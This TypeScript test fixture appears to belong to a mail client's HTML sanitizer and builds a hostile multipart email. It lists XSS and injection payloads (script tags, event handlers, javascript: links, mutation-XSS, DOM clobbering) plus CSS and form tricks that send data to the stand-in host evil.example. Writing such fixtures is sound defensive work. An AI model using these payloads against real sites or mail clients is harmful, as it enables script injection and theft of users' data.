import { mail } from './site.ts';

/** What an attacker writes; each would say `window.attacked = …` or load something from evil.example. */
export const ATTACKS: readonly string[] = [
  '<script>window.attacked = 1; fetch("https://evil.example/script")</script>',
  '<scr<script>ipt>window.attacked = 1</scr</script>ipt>',
  '<img src=x onerror="window.attacked = 2">',
  '<img src="https://evil.example/pixel.png" width=1 height=1>',
  '<img srcset="https://evil.example/set.png 1x">',
  '<picture><source srcset="https://evil.example/source.png"><img></picture>',
  '<style>@import url("https://evil.example/style.css"); body { background: url(https://evil.example/body.png) } input[value^="a"] { background: url(https://evil.example/leak?a) }</style>',
  '<p style="background: url(https://evil.example/inline.png); position: fixed; inset: 0">over everything</p>',
  '<link rel="stylesheet" href="https://evil.example/link.css"><link rel="prefetch" href="https://evil.example/prefetch">',
  '<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/form"><input name="password"><button autofocus>Send</button></form>',
  '<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>parent.attacked = 3</script>"></iframe>',
  '<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">',
  '<svg onload="window.attacked = 4"><script>window.attacked = 5</script><image href="https://evil.example/svg.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.attacked = 6"></style></mglyph></table></mtext></math>',
  '<a href="javascript:window.attacked = 7">a</a><a href=" java\nscript:window.attacked = 8">b</a><a href="data:text/html,<script>alert(9)</script>">c</a><a href="vbscript:x">d</a>',
  "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(10)'/>\">",
  '<video src="https://evil.example/video" autoplay></video><audio src="https://evil.example/audio" autoplay></audio>',
  '<body onload="window.attacked = 11" background="https://evil.example/background.png">',
  '<details open ontoggle="window.attacked = 12"><summary>x</summary></details>',
  '<noscript><p title="</noscript><img src=x onerror=window.attacked=13>"></noscript>',
  '<textarea autofocus onfocus="window.attacked = 14"></textarea>',
  '<a href="//evil.example/relative" ping="https://evil.example/ping">e</a>',
  '<div id="content" name="forms" class="site-header">clobbered</div>',
  '<!--<img src="--><img src=x onerror=window.attacked=15>//">',
  '\u0000<script>window.attacked = 16</script>',
];

const encoded = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;

/** Markup that wants out of where it stands. */
const MARKUP = '"><script>window.attacked = 20</script><img src=x onerror="window.attacked = 21">';

/** A mail that attacks with every part of it. */
export function attackMail(id: string): string {
  const page = `<html><body>${ATTACKS.join('\n')}<p>The end</p></body></html>`;
  const boundary = 'attack';
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.attacked = 30"><script>window.attacked = 31</script></svg>';
  const part = (type: string, name: string, content: string): string =>
    `--${boundary}\nContent-Type: ${type}; name="${name}"\nContent-Transfer-Encoding: base64\nContent-ID: <part@people.example>\nContent-Disposition: attachment; filename="${name}"\n\n${Buffer.from(content).toString('base64')}\n`;
  return mail(id, {
    from: `${encoded(`Eve ${MARKUP}`)} <eve@people.example>`,
    subject: encoded(`Offer ${MARKUP} &lt;b&gt;`),
    headers: `MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="${boundary}"\nX-Attack: ${MARKUP}\n`,
    body: [
      `--${boundary}\nContent-Type: multipart/alternative; boundary="inner"\n\n`,
      `--inner\nContent-Type: text/plain; charset=utf-8\n\n${MARKUP}\n\njavascript:window.attacked=22\nhttps://evil.example/"onmouseover="window.attacked=23\n> ${MARKUP}\n\n`,
      `--inner\nContent-Type: text/html; charset=utf-8\n\n${page}<img src="cid:part@people.example">\n--inner--\n`,
      part('image/svg+xml', 'picture.svg', svg),
      part('image/png', encoded(`x${MARKUP}.png`), svg),
      part('text/html', 'page.html', page),
      `--${boundary}--\n`,
    ].join(''),
  });
}
